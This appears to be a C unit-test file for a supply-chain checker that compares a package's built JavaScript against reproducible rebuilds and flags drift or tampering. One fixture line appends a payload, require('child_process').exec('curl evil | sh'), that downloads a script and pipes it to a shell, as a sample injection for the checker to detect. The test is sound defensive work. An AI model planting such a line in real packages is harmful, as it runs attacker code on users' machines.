/*
 * When a rebuilt file's lines differ from the artifact's (diff/tree_diff.c): file-unverified
 * when no lockfile pinned the rebuild's dependencies (sg_diff_opts.rebuilt_unpinned: honest
 * builds with drifted dependencies differ) or when the second, varied build made other bytes
 * there (rebuilt_again: honest builds vary); else file-modified. Lines appended after the
 * rebuilt content are a modification either way.
 */
#include "sg_test.h"

#include <stdio.h>
#include <string.h>

#include "common/common.h"
#include "diff/diff_int.h"

#define PKG "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"build\":\"rollup -c\"}}"
#define REBUILT "export function f(a) {\n  return a + 1;\n}\nexport const v = 1;\n"
#define DRIFTED "export function f(a) {\n  return a+1;\n}\nexport const v = 1;\n"
#define APPENDED REBUILT "require('child_process').exec('curl evil | sh');\n"

static sg_ctx *ctx;
static sg_report *rep;

static int setup(void **state)
{
    (void)state;
    return sg_ctx_new(&ctx) < 0 || sg_report_new(&rep, ctx) < 0 ? -1 : 0;
}

static int teardown(void **state)
{
    (void)state;
    sg_report_free(rep);
    sg_ctx_free(ctx);
    rep = NULL;
    ctx = NULL;
    return 0;
}

/* Diff an artifact whose dist/index.js is art against a rebuild that made REBUILT. */
static void diff_again(const char *art, const char *unpinned, const char *again)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file a[] = {{"package.json", PKG, 0, 0}, {"dist/index.js", art, 0, 0}};
    const sgt_file r[] = {{"package.json", PKG, 0, 0}, {"dist/index.js", REBUILT, 0, 0}};
    const sgt_file g[] = {{"package.json", PKG, 0, 0}, {"dist/index.js", again, 0, 0}};
    sg_tree *st = sgt_tree(src, 1), *at = sgt_tree(a, 2), *rt = sgt_tree(r, 2);
    sg_tree *gt = again ? sgt_tree(g, 2) : NULL;
    sg_diff_opts opts = SG_DIFF_OPTS_INIT;
    int rc;

    sg_report_free(rep);
    assert_int_equal(sg_report_new(&rep, ctx), 0);
    opts.rebuilt = rt;
    opts.rebuilt_again = gt;
    opts.rebuilt_unpinned = unpinned;
    if ((rc = sg_diff_trees(rep, ctx, st, at, &opts)) != 0)
        fail_msg("sg_diff_trees failed: %d %s", rc, sg_error_message(ctx));
    sg_tree_free(st);
    sg_tree_free(at);
    sg_tree_free(rt);
    sg_tree_free(gt);
}

static void diff(const char *art, const char *unpinned)
{
    diff_again(art, unpinned, NULL);
}

static const sg_finding *finding_for(const char *path)
{
    size_t i;
    for (i = 0; i < sg_report_finding_count(rep); i++)
        if (sg_report_finding(rep, i)->path && strcmp(sg_report_finding(rep, i)->path, path) == 0)
            return sg_report_finding(rep, i);
    fail_msg("no finding for %s", path);
    return NULL;
}

static void test_rebuilt_unpinned__drift_is_unverified_not_modified(void **state)
{
    const sg_finding *f;
    (void)state;
    diff(DRIFTED, "not frozen (no lockfile), as of 2024-03-01T10:11:12.345Z");
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-unverified");
    assert_int_equal(f->severity, SG_SEV_MEDIUM);
    assert_non_null(strstr(f->detail, "differs from the rebuild"));
    assert_non_null(strstr(f->detail, "dependencies may differ from the release's"));
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_INCONCLUSIVE);
}

static void test_rebuilt_unpinned__pinned_install_is_a_modification(void **state)
{
    const sg_finding *f;
    (void)state;
    diff(DRIFTED, NULL);
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-modified");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

static void test_rebuilt_unpinned__appended_lines_are_a_modification_anyway(void **state)
{
    const sg_finding *f;
    (void)state;
    diff(APPENDED, "not frozen (no lockfile)");
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-modified");
    assert_non_null(strstr(f->detail, "appended"));
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

static void test_rebuilt_unpinned__same_bytes_are_rebuilt(void **state)
{
    (void)state;
    diff(REBUILT, "not frozen (no lockfile)");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

/* consola's d.ts: the second build wrote the line otherwise: not judged. The same bytes from
 * both builds: the artifact's other line is a modification. An appended payload always is. */
static void test_rebuilt_unpinned__builds_that_vary_leave_the_file_unverified(void **state)
{
    const sg_finding *f;
    (void)state;
    /* the second build wrote line 2 otherwise too: not judged */
    diff_again(DRIFTED, NULL,
               "export function f(a) {\n  return (a + 1);\n}\nexport const v = 1;\n");
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-unverified");
    assert_non_null(strstr(f->detail, "the second build differs from the first on every line"));
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_INCONCLUSIVE);

    /* the builds differ on line 4 only; the artifact on line 2, where both builds agree */
    diff_again(DRIFTED, NULL, "export function f(a) {\n  return a + 1;\n}\nexport const v = 2;\n");
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-modified");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);

    diff_again(DRIFTED, NULL, REBUILT);
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-modified");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);

    diff_again(APPENDED, NULL, DRIFTED);
    f = finding_for("dist/index.js");
    assert_string_equal(f->kind, "file-modified");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_rebuilt_unpinned__drift_is_unverified_not_modified,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_rebuilt_unpinned__pinned_install_is_a_modification,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(
            test_rebuilt_unpinned__appended_lines_are_a_modification_anyway, setup, teardown),
        cmocka_unit_test_setup_teardown(test_rebuilt_unpinned__same_bytes_are_rebuilt, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(
            test_rebuilt_unpinned__builds_that_vary_leave_the_file_unverified, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
